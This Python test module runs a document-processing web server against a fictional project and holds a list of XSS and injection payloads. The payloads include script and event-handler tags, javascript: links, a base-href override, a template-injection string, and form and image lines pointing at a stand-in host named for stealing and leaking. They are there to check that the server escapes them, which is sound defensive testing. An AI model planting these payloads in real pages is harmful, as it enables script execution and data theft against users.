"""A desk on an invented, hostile project, answered by the real server, and a browser to look at it."""

from __future__ import annotations

import http.client
import io
import json
import re
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from html import unescape
from pathlib import Path
from urllib.parse import urlencode

from reportlab.pdfgen import canvas
from starlette.routing import Route

from muster.web.gate import Sessions
from muster.web.office import Office
from muster.web.serve import make_app, server
from muster.workflows import intake
from muster.workflows.project import Desk, desk

NOW = "2031-06-21T08:00:00+00:00"

# What a document may try; each must be seen as its characters, none obeyed.
PAYLOADS = (
    "<script>document.title='owned'</script>",
    "<img src=x onerror=document.title='owned'>",
    "<img src='http://muster.invalid/leak.png'>",
    "<svg onload=document.title='owned'></svg>",
    "<svg><script>document.title='owned'</script></svg>",
    "<iframe src='http://muster.invalid/frame'></iframe>",
    "<a href=\"javascript:document.title='owned'\">click</a>",
    "\"><script>document.title='owned'</script>",
    "'><img src=x onerror=document.title='owned'>",
    "</script><script>document.title='owned'</script>",
    "<style>@import 'http://muster.invalid/x.css';</style>",
    "<link rel=stylesheet href=http://muster.invalid/y.css>",
    "<form action=http://muster.invalid/steal><input name=form></form>",
    "<meta http-equiv=refresh content='0;url=http://muster.invalid/'>",
    "{{ config }}{% raw %}{{7*7}}",
    "</article></main><base href=http://muster.invalid/>",
)
_TOLD = (
    "😀 Lawyer Oren Talvik said: “At least 40 men of the 9th brigade refused to go back in May.” He added "
    "that 12 of them were held in Lower Kemsk, and that nobody had told their families where they are.",
    "“Some 300 people wrote to us,” said Marta Oslend, head of the Open Register, on 2 June 2031. She said "
    "that most of the letters came from the mothers of the men.",
)


def _web_page(outlet: str, day: str, *paragraphs: str) -> str:
    told = "".join(f"<p>{p}</p>" for p in paragraphs)
    return (
        f'<html lang="en"><head><title>Men refuse, {outlet}</title><meta property="og:site_name" '
        f'content="{outlet}"><meta property="article:published_time" content="{day}"></head>'
        f"<body><article><h1>Men refuse, {outlet}</h1>{told}</article></body></html>"
    )


PAPERS = {
    "harbour.html": _web_page("Harbour Gazette", "2031-06-03", *_TOLD),
    "copy.html": _web_page("Port Courier", "2031-06-04", *_TOLD),
    "emoji.txt": "😀😀 Lawyer Oren Talvik said: “At least 40 men refused.”\n\n"
    "\u202eThis line is turned.\u202c\n",
    "ministry.txt": (
        "The ministry said on 5 June 2031 that 5 men refused to go back.\n\n"
        "M. Oslend told Radio Tirnau that 320 people had written.\n"
    ),
    "russian.txt": (
        "Юрист Орен Тальвик сказал: «Не менее 45 человек отказались вернуться в мае». "
        "По словам Марты Осленд, к ней обратились около 300 человек.\n"
    ),
    "hostile.txt": "Pavel Druzh said: “No fewer than 7 men refused.”\n\n" + "\n\n".join(PAYLOADS) + "\n",
    "long.txt": "Irina Kelm said that 15 men left.\n" + "word " * 30_000 + "\nThe end.\n",
    "many.txt": "The road is long.\n" * 3_000 + "Irina Kelm said that 16 men stayed.\n",
}
QUESTION = """name = "refusals"
title = { en = "men who refused <b>to go back</b>", ru = "отказавшиеся", uk = "ті, хто відмовився" }
unit = "people"
population = { en = "men", ru = "люди", uk = "люди" }
place = { en = "the whole country", ru = "страна", uk = "країна" }
from = 2031-03-01
counting = "cumulative"

[select]
counted = ["man", "человек"]
about = ["refuse", "отказаться"]
"""


# A town, a first name and a surname each.
_MEN = """
Varn Oren Talvik, Oskel Marta Oslend, Tellin Pavel Druzhin, Brade Irina Kelmer, Kostra Teodor Varonin,
Murn Klara Bystrel, Elvet Anton Markov, Sarn Vera Sedelnik, Dolm Lev Rudakin, Pirn Nina Orlenko,
Halk Gleb Teplin, Yost Rada Zarechin, Ferrow Mirko Volgan, Nail Dana Mirsky, Gant Ilya Petrel,
Ullen Sonja Sorokan, Wirra Timur Dubrov, Zeld Olga Lesnin, Corve Stefan Halvar, Lusk Lada Krotin
"""
# Notes that repeat one another's words, with people of one surname: some thirty questions for a person.
NOTES = {
    f"{letter}{n}.txt": note
    for n, (town, first, last) in enumerate(man.split() for man in _MEN.split(","))
    for letter, note in (
        ("a", f"{first} {last} said that {20 + n} men of {town} refused to go back in May. "
              f"{last} said nobody had told the families in {town} where the men are held.\n"),
        ("b", f"The column of {last}.\n\n{last} told Radio Tirnau that {50 + n} people had written from "
              f"{town}. {first[0]}. {last} and {first} {last[:-1]}a were named.\n"),
    )
}  # fmt: skip


def write_papers(folder: Path, papers: dict[str, str] = PAPERS) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, body in papers.items():
        (folder / name).write_text(body, "utf-8")
    if papers is PAPERS:
        (folder / "report.pdf").write_bytes(_pdf())
    return folder


def _pdf() -> bytes:
    """Two pages; on the second a lawyer speaks."""
    made = io.BytesIO()
    sheet = canvas.Canvas(made, pagesize=(400, 300), invariant=True)
    sheet.drawString(40, 200, "The register was opened in March 2031. It is kept in Kemsk.")
    sheet.showPage()
    sheet.drawString(40, 200, "Lawyer Oren Talvik said that 44 men refused to go back.")
    sheet.save()
    return made.getvalue()


@dataclass
class Answer:
    status: int
    headers: dict[str, str]
    body: str

    @property
    def links(self) -> list[str]:
        return [unescape(h) for h in re.findall(r'href="([^"]+)"', self.body)]


@dataclass
class Client:
    """Somebody who asks the desk by hand; ``cookie`` once inside."""

    port: int
    sessions: Sessions
    told: list[str] = field(default_factory=list)
    routes: list[Route] = field(default_factory=list)
    project: Path = Path()
    office: Office | None = None
    cookie: str = ""

    def get(self, path: str, method: str = "GET", body: str = "", **headers: str | None) -> Answer:
        sent = {"Host": f"127.0.0.1:{self.port}", "Cookie": self.cookie}
        sent |= {name.replace("_", "-"): value for name, value in headers.items()}  # type: ignore[misc]
        line = http.client.HTTPConnection("127.0.0.1", self.port, timeout=30)
        line.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
        for name, value in sent.items():
            if value is not None:
                line.putheader(name, value)
        raw = body.encode()
        if method == "POST":
            line.putheader("Content-Length", str(len(raw)))
        line.endheaders(raw)
        got = line.getresponse()
        found = Answer(
            got.status, {k.lower(): v for k, v in got.getheaders()}, got.read().decode("utf-8", "replace")
        )
        line.close()
        return found

    def post(self, path: str, _forged: str | None = None, _origin: str | None = "", **fields: str) -> Answer:
        own = f"http://127.0.0.1:{self.port}"
        fields = {"form": self.form if _forged is None else _forged, **fields}
        return self.get(path, "POST", urlencode(fields), Origin=own if _origin == "" else _origin)

    @property
    def form(self) -> str:
        found = re.search(r'name="form" value="([0-9a-f]+)"', self.get("/decided").body)
        return found[1] if found else ""

    def enter(self) -> Client:
        token = self.sessions.invite().partition("token=")[2]
        answer = self.get(f"/enter?token={token}")
        self.cookie = answer.headers["set-cookie"].partition(";")[0]
        return self


def asked(client: Client) -> str:
    """The code of a question that came in, with a telephone and a payload in it."""
    project: Path = client.project
    ours = desk(project, {"MUSTER_STATE": str(project.parent / "key"), "MUSTER_NOW": NOW})
    paper = project.parent / "question.txt"
    paper.write_text(
        f"My son was detained today, call 8 800 555-35-35. {PAYLOADS[0]} What can we do?", "utf-8"
    )
    return intake.take(ours, [paper], by="desk").codes[0]


def paper(client: Client) -> str:
    """The page of the PDF on which somebody speaks."""
    rows = json.loads(client.get("/quantities.json?limit=1000").body)["rows"]
    found = next(r for r in rows if r["words"] == "44")
    shown = client.get(client.get(f"/at/{found['id']}").headers["location"].partition("#")[0])
    return next(link for link in shown.links if "/page/" in link)


@contextmanager
def served(project: Path, state: Path, **more: object) -> Iterator[Client]:
    """The desk of a project, answered by the real server in a thread."""
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    told: list[str] = []
    ours: Desk = desk(project, {"MUSTER_STATE": str(state), "MUSTER_NOW": NOW})
    app, sessions = make_app(ours, port=port, clock=lambda: NOW, tell=told.append, **more)  # type: ignore[arg-type]
    answering = server(app, port)
    thread = threading.Thread(target=answering.run, daemon=True)
    thread.start()
    while not answering.started:
        time.sleep(0.01)
    try:
        yield Client(
            port,
            sessions,
            told,
            [r for r in app.app.routes if isinstance(r, Route)],
            project,
            app.app.state.office,
        )  # type: ignore[attr-defined]
    finally:
        answering.should_exit = True
        thread.join()
